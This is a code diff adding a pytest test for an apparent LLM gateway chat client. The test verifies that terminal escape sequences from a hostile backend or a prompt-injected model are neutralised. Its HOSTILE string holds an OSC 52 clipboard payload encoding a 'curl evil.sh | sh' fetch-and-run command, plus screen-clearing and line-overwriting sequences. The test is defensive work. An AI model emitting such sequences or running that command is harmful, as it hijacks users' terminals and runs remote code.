@@ -252,3 +252,78 @@ def test_demo_tool_loop(stack: InProcessStack) -> None:
 )
 def test_demo_tool_answers_bad_calls_with_an_error(call: dict[str, Any], result: Any) -> None:
     assert json.loads(run_demo_tool(call)) == result
+
+
+# What a hostile backend (or a prompt-injected model) may put in an answer: OSC 52
+# sets the user's clipboard, CSI 2J clears the screen, 0x9B is an 8-bit CSI, and a
+# carriage return overwrites the line already shown.
+HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x9b31m fine\rreal\r\nnext\tline"
+
+
+def _hostile_gateway() -> tuple[httpx.Client, httpx.Client]:
+    """A control plane and an edge (in-memory transports) whose stream carries
+    `HOSTILE` in its text, its tool call's name and arguments and its error."""
+    turns = iter(["tool", "error"])
+
+    def control_plane(request: httpx.Request) -> httpx.Response:
+        if request.url.path == "/v1/usage":
+            return httpx.Response(200, json={"success": True, "data": {"items": []}})
+        grant = {
+            "stream_url": "http://edge.test/v1/stream?token=t",
+            "session_id": "s",
+            "reservation_id": "r",
+            "reserved_credits": "0.1",
+            "model": "m",
+        }
+        return httpx.Response(201, json={"success": True, "data": grant})
+
+    def edge(request: httpx.Request) -> httpx.Response:
+        chunk = json.dumps({"content": HOSTILE, "index": 0})
+        if next(turns) == "tool":
+            call = json.dumps(
+                {"index": 0, "id": "c1", "name": "add" + HOSTILE, "arguments": HOSTILE}
+            )
+            done = json.dumps({"done": True, "usage": {"output_tokens": 1}})
+            body = (
+                f"id: 1\nevent: chunk\ndata: {chunk}\n\n"
+                f"id: 2\nevent: tool_call\ndata: {call}\n\n"
+                f"id: 3\nevent: complete\ndata: {done}\n\n"
+            )
+        else:
+            error = json.dumps({"code": "x", "message": HOSTILE})
+            body = f"id: 1\nevent: error\ndata: {error}\n\n"
+        return httpx.Response(200, text=body, headers={"content-type": "text/event-stream"})
+
+    return (
+        httpx.Client(base_url="http://cp.test", transport=httpx.MockTransport(control_plane)),
+        httpx.Client(transport=httpx.MockTransport(edge)),
+    )
+
+
+def _controls(text: str) -> list[str]:
+    return [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0]
+
+
+def test_a_hostile_answer_never_reaches_the_terminal_as_control_sequences(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The answer, the tool call line and the error were written as they came: an
+    answer could set the user's clipboard to a command (OSC 52), clear or rewrite
+    the screen. Now every control character but newline and tab is shown as U+FFFD
+    (a carriage return dropped), and the answer's text is still all there."""
+    from llm_gateway import chat as chat_cli
+
+    http, edge = _hostile_gateway()
+    out, notes = io.StringIO(), io.StringIO()
+    with pytest.raises(chat_cli.ChatError) as stopped:
+        chat(http, "hi", None, None, out, edge, tools=True, notes=notes)
+    assert _controls(out.getvalue()) == [] and _controls(notes.getvalue()) == []
+    assert "ok\ufffd]52;c;Y3VybCBldmlsLnNoIHwgc2g=\ufffd\ufffd[2J\ufffd31m fine" in out.getvalue()
+    assert "finereal\nnext\tline" in out.getvalue() and notes.getvalue().startswith(
+        "→ addok\ufffd]52"
+    )
+    # The command's own error line, as `run_chat` prints it.
+    monkeypatch.setattr(chat_cli, "chat", lambda *a, **k: (_ for _ in ()).throw(stopped.value))
+    args = chat_cli.argparse.Namespace(question="hi", model=None, session=None, demo_tool=False)
+    assert chat_cli.run_chat(args, {"LLMGW_API_KEY": "sk_x"}) == 1
+    assert _controls(capsys.readouterr().err) == []
